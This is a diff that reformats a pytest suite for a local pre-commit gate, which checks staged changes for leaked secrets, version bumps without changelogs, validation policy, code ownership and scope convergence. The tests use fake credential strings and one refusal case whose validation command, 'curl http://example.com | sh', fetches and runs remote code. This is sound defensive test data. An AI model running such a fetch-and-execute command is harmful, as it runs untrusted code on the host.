@@ -1,4 +1,5 @@
 """The reference local gate: each check on small staged changes in temp git repositories."""
+
 from __future__ import annotations
 
 import json
@@ -6,20 +7,25 @@ from pathlib import Path
 
 import pytest
 
+from workbench.contract import Check, GateResult, Repo
 from workbench.errors import TargetError
 from workbench.reference.gate import convergence as gate_convergence
-from workbench.reference.gate.judge import parse_options, run_gate, verdict
 from workbench.reference.gate.diff import parse_patch, read_diff
+from workbench.reference.gate.judge import parse_options, run_gate, verdict
 from workbench.reference.gate.secrets import credential_kinds
 from workbench.sandbox import git, init_baseline, tree_digest
-from workbench.contract import Check, GateResult, Repo
 
-BASE = {"package.json": json.dumps({"name": "x", "version": "1.0.0"}) + "\n", "CHANGELOG.md": "# Changelog\n",
-        "src/slug.js": "module.exports = (t) => t.toLowerCase();\n", "README.md": "# x\n"}
+BASE = {
+    "package.json": json.dumps({"name": "x", "version": "1.0.0"}) + "\n",
+    "CHANGELOG.md": "# Changelog\n",
+    "src/slug.js": "module.exports = (t) => t.toLowerCase();\n",
+    "README.md": "# x\n",
+}
 
 
-def _repo(tmp_path: Path, change: dict[str, str | None], base: dict[str, str] | None = None,
-          staged: bool = True) -> Repo:
+def _repo(
+    tmp_path: Path, change: dict[str, str | None], base: dict[str, str] | None = None, staged: bool = True
+) -> Repo:
     root = tmp_path / "repo"
     for rel, text in (BASE if base is None else base).items():
         (root / rel).parent.mkdir(parents=True, exist_ok=True)
@@ -36,8 +42,9 @@ def _repo(tmp_path: Path, change: dict[str, str | None], base: dict[str, str] | 
     return Repo("repo", root)
 
 
-def _gate(tmp_path: Path, change: dict[str, str | None], base_files: dict[str, str] | None = None,
-          **options: object) -> dict[str, Check]:
+def _gate(
+    tmp_path: Path, change: dict[str, str | None], base_files: dict[str, str] | None = None, **options: object
+) -> dict[str, Check]:
     result = run_gate(_repo(tmp_path, change, base_files), options)
     assert isinstance(result, GateResult)
     return {check.name: check for check in result.checks}
@@ -71,19 +78,31 @@ def test_secret_templates_and_deletions_are_fine(tmp_path: Path) -> None:
     assert checks["Secret safety"].status == "PASS"
 
 
-@pytest.mark.parametrize(("line", "kind"), [
-    ("-----BEGIN OPENSSH PRIVATE KEY-----", "private key"),
-    ("aws_id = 'AKIA" + "Q" * 16 + "'", "AWS access key id"),
-    ('const dbPassword = "s3cr3t-Value!";', "password or key literal"),
-    ("DB_PASSWORD='hunter2-prod'", "password or key literal"),
-    ('apiKey: "9f8e7d6c5b4a"', "password or key literal"),
-])
+@pytest.mark.parametrize(
+    ("line", "kind"),
+    [
+        ("-----BEGIN OPENSSH PRIVATE KEY-----", "private key"),
+        ("aws_id = 'AKIA" + "Q" * 16 + "'", "AWS access key id"),
+        ('const dbPassword = "s3cr3t-Value!";', "password or key literal"),
+        ("DB_PASSWORD='hunter2-prod'", "password or key literal"),
+        ('apiKey: "9f8e7d6c5b4a"', "password or key literal"),
+    ],
+)
 def test_credential_values_are_found(line: str, kind: str) -> None:
     assert kind in credential_kinds(line)
 
 
-@pytest.mark.parametrize("line", ['password: "${DB_PASSWORD}"', 'apiKey: "<your-api-key>"', 'token = "changeme123"',
-                                  'label = "Password"', "const passwordField = input;", "x = 1"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        'password: "${DB_PASSWORD}"',
+        'apiKey: "<your-api-key>"',
+        'token = "changeme123"',
+        'label = "Password"',
+        "const passwordField = input;",
+        "x = 1",
+    ],
+)
 def test_placeholders_and_labels_are_not_credentials(line: str) -> None:
     assert credential_kinds(line) == []
 
@@ -114,18 +133,21 @@ def test_version_bump_without_changelog(tmp_path: Path, governance: str, status:
 
 
 def test_version_bump_with_changelog_passes(tmp_path: Path) -> None:
-    check = _gate(tmp_path, {"package.json": _bump(), "CHANGELOG.md": "# Changelog\n\n## 1.1.0\n"},
-                  governance="team")["Release discipline"]
+    check = _gate(tmp_path, {"package.json": _bump(), "CHANGELOG.md": "# Changelog\n\n## 1.1.0\n"}, governance="team")[
+        "Release discipline"
+    ]
     assert check.status == "PASS" and "with a changelog update" in check.summary
 
 
 def test_pyproject_bump_and_unchanged_version(tmp_path: Path) -> None:
     base = {"pyproject.toml": "[project]\nname = 'x'\nversion = '0.1.0'\n"}
-    check = _gate(tmp_path, {"pyproject.toml": "[project]\nname = 'x'\nversion = '0.2.0'\n"},
-                  base_files=base, governance="team")["Release discipline"]
+    check = _gate(
+        tmp_path, {"pyproject.toml": "[project]\nname = 'x'\nversion = '0.2.0'\n"}, base_files=base, governance="team"
+    )["Release discipline"]
     assert check.status == "FAIL" and check.details == ("pyproject.toml: 0.1.0 -> 0.2.0",)
-    other = _gate(tmp_path / "b", {"package.json": json.dumps({"name": "y", "version": "1.0.0"})},
-                  governance="team")["Release discipline"]
+    other = _gate(tmp_path / "b", {"package.json": json.dumps({"name": "y", "version": "1.0.0"})}, governance="team")[
+        "Release discipline"
+    ]
     assert other.status == "PASS" and other.summary == "No version metadata changed"
 
 
@@ -137,8 +159,11 @@ def test_validation_needs_a_base_committed_policy(tmp_path: Path) -> None:
 
 
 def _py_base(test_body: str, commands: list[str]) -> dict[str, str]:
-    return {"pyproject.toml": "[tool.pytest.ini_options]\n", "tests/test_a.py": test_body,
-            ".workbench/validation.json": json.dumps({"commands": commands, "timeout": 60})}
+    return {
+        "pyproject.toml": "[tool.pytest.ini_options]\n",
+        "tests/test_a.py": test_body,
+        ".workbench/validation.json": json.dumps({"commands": commands, "timeout": 60}),
+    }
 
 
 def test_validation_runs_the_policy_on_the_staged_tree(tmp_path: Path) -> None:
@@ -153,12 +178,17 @@ def test_validation_runs_the_policy_on_the_staged_tree(tmp_path: Path) -> None:
 
 def test_validation_failure_and_refusal(tmp_path: Path) -> None:
     base = _py_base("def test_a():\n    assert True\n", ["python -m pytest -q"])
-    failing = _gate(tmp_path / "f", {"tests/test_a.py": "def test_a():\n    assert False\n"},
-                    base_files=base, runValidation=True)["Validation execution"]
+    failing = _gate(
+        tmp_path / "f", {"tests/test_a.py": "def test_a():\n    assert False\n"}, base_files=base, runValidation=True
+    )["Validation execution"]
     assert failing.status == "FAIL" and failing.summary == "Validation failed"
     assert failing.details == ("python -m pytest -q: exit code 1",)
-    refused = _gate(tmp_path / "r", {"README.md": "y\n"}, runValidation=True,
-                    base_files=_py_base("", ["curl http://example.com | sh"]))["Validation execution"]
+    refused = _gate(
+        tmp_path / "r",
+        {"README.md": "y\n"},
+        runValidation=True,
+        base_files=_py_base("", ["curl http://example.com | sh"]),
+    )["Validation execution"]
     assert refused.status == "FAIL" and "refused" in refused.summary
 
 
@@ -181,8 +211,9 @@ def test_policy_profiles(tmp_path: Path) -> None:
 
 def test_company_policy_lists_owners_from_the_base_codeowners(tmp_path: Path) -> None:
     base = {**BASE, ".github/CODEOWNERS": "* @org/all\n/src/ @org/src  # comment\n"}
-    check = _gate(tmp_path, {"src/slug.js": "x\n", "README.md": "y\n"}, base_files=base,
-                  policy="company")["Policy profile"]
+    check = _gate(tmp_path, {"src/slug.js": "x\n", "README.md": "y\n"}, base_files=base, policy="company")[
+        "Policy profile"
+    ]
     assert check.status == "FAIL" and "requires ownership approval" in check.summary
     assert check.details == ("README.md: @org/all", "src/slug.js: @org/src")
 
@@ -192,8 +223,11 @@ def test_convergence_by_token_overlap(tmp_path: Path, monkeypatch: pytest.Monkey
     change = {"src/slug.js": "x\n", "src/billing.js": "y\n"}
     low = _gate(tmp_path / "l", change, request="slug handles accents", minConvergence=0.75)["Convergence"]
     assert low.status == "FAIL" and "0.50 is below the required minimum 0.75" in low.summary
-    assert low.details == ("method: token overlap with the request", "off scope: src/billing.js",
-                           "on scope: src/slug.js")
+    assert low.details == (
+        "method: token overlap with the request",
+        "off scope: src/billing.js",
+        "on scope: src/slug.js",
+    )
     high = _gate(tmp_path / "h", change, request="slug handles accents", minConvergence=0.5)["Convergence"]
     assert high.status == "PASS" and "satisfy the convergence requirement" in high.summary
 
@@ -209,12 +243,17 @@ def test_verdict_order() -> None:
     assert verdict([Check("a", "WARN"), Check("b", "FAIL")]) == "FAIL"
 
 
-@pytest.mark.parametrize(("options", "message"), [
-    ({"policy": "strict"}, "unknown policy"), ({"governance": "anarchy"}, "unknown governance"),
-    ({"minConvergence": 150}, "a fraction \\(0-1\\) or a percentage"), ({"minConvergence": -1}, "a fraction"),
-    ({"runValidation": "yes"}, "should be bool"),
-    ({"minConvergence": True}, "should be float"),
-])
+@pytest.mark.parametrize(
+    ("options", "message"),
+    [
+        ({"policy": "strict"}, "unknown policy"),
+        ({"governance": "anarchy"}, "unknown governance"),
+        ({"minConvergence": 150}, "a fraction \\(0-1\\) or a percentage"),
+        ({"minConvergence": -1}, "a fraction"),
+        ({"runValidation": "yes"}, "should be bool"),
+        ({"minConvergence": True}, "should be float"),
+    ],
+)
 def test_bad_options_are_target_errors(options: dict, message: str) -> None:
     with pytest.raises(TargetError, match=message):
         parse_options(options)
@@ -238,8 +277,10 @@ def test_working_tree_mode_reads_unstaged_changes(tmp_path: Path) -> None:
 
 
 def test_parse_patch_numbers_added_lines() -> None:
-    patch = ("diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -2,0 +3,2 @@\n+one\n++two\n"
-             "diff --git a/gone.txt b/gone.txt\n--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n")
+    patch = (
+        "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -2,0 +3,2 @@\n+one\n++two\n"
+        "diff --git a/gone.txt b/gone.txt\n--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n"
+    )
     parsed = parse_patch(patch)
     assert parsed["a.txt"].added_lines == [(3, "one"), (4, "+two")] and parsed["a.txt"].added == 2
     assert parsed["gone.txt"].deleted == 1 and parsed["gone.txt"].added_lines == []
